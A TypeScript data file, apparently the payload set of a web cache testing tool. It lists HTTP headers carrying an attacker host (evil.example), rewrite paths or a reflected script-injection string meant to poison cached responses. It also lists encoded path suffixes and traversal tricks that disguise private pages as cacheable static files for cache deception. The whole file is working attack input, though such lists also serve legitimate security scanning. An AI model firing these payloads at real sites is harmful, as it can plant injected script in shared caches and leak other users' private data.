const EVIL = 'evil.example';
const VECTOR = '"><script>ran()</script>';

/** Headers that one or another product put into a cached answer. */
export const POISONS: readonly Readonly<Record<string, string>>[] = [
  ...[
    ...[
      'X-Forwarded-Host',
      'X-Host',
      'X-Forwarded-Server',
      'X-HTTP-Host-Override',
      'X-Backend-Host',
    ],
    ...['X-Original-Host', 'X-Forwarded-For', 'X-Real-IP', 'True-Client-IP', 'CF-Connecting-IP'],
    ...['X-Client-IP', 'Via', 'Referer', 'User-Agent', 'From', 'X-Wap-Profile', 'X-ATT-DeviceId'],
  ].map((name) => ({ [name]: EVIL })),
  ...[
    ...[
      'X-Forwarded-Prefix',
      'X-Forwarded-Path',
      'X-Original-URL',
      'X-Rewrite-URL',
      'X-Override-URL',
    ],
    ...['X-Invoke-Path', 'X-Matched-Path', 'X-Script-Name'],
  ].map((name) => ({ [name]: '/no-such-page' })),
  ...[
    ...['Accept-Language', 'Accept-Charset', 'X-Requested-With', 'X-User', 'X-Service-Secret'],
    ...['X-Ghost-Preview', 'Discourse-Present', 'RSC', 'X-Nextjs-Data', 'X-Middleware-Subrequest'],
    ...['Sec-CH-UA', 'Sec-CH-UA-Platform', 'Viewport-Width', 'Save-Data', 'Purpose', 'X-Custom'],
  ].map((name) => ({ [name]: VECTOR })),
  { Forwarded: `host=${EVIL};proto=http` },
  { Origin: `https://${EVIL}` },
  { 'X-Forwarded-Proto': 'http', 'X-Forwarded-Port': '1', 'X-Forwarded-Scheme': 'nothttps' },
  { 'X-Url-Scheme': 'http', 'Front-End-Https': 'on', 'X-Forwarded-SSL': 'off' },
  { 'X-HTTP-Method-Override': 'POST', 'X-Method-Override': 'DELETE' },
  { Accept: `text/x; q=1, ${VECTOR}` },
  { Accept: 'application/json' },
  { 'Accept-Encoding': 'br' },
  { 'Accept-Encoding': 'x, identity;q=0' },
  { Cookie: `theme=${EVIL}; lang=${EVIL}` },
  { Cookie: 'sid=junk' },
  { Range: 'bytes=0-3' },
  { Range: 'bytes=99999999-', 'If-Range': '"x"' },
  { 'If-None-Match': '*' },
  { 'If-Modified-Since': 'Thu, 01 Jan 2099 00:00:00 GMT' },
  { 'If-Match': '"x"', 'If-Unmodified-Since': 'Thu, 01 Jan 1970 00:00:00 GMT' },
  { 'Cache-Control': 'no-cache, max-age=0', Pragma: 'no-cache' },
  { 'Content-Type': VECTOR },
  { Authorization: 'Bearer junk' },
  { Upgrade: 'h2c', Connection: 'upgrade' },
  { Connection: 'close, X-Request-Id, Content-Type' },
  { Expect: 'x' },
  { 'Sec-Fetch-Dest': 'script', 'Sec-Fetch-Mode': 'no-cors', 'Sec-Fetch-Site': 'cross-site' },
  { 'X-Request-Id': VECTOR },
  { 'Max-Forwards': '0', TE: 'trailers' },
  { 'X-Long': 'x'.repeat(15_000) },
];

/** What makes a private answer look like a file that caches keep. */
export const DISGUISES: readonly string[] = [
  ...['/x.css', ';.js', '%0a.png', '/x.js', '.css', '%2fx.css', ';/x.png', '%3f.css', '%23.css'],
  ...[
    '%00.css',
    '/..%2fassets%2fx.css',
    '/..;/x.js',
    '%5cx.css',
    '/.css',
    '/%2e%2e/x.css',
    '~x.js',
  ],
];
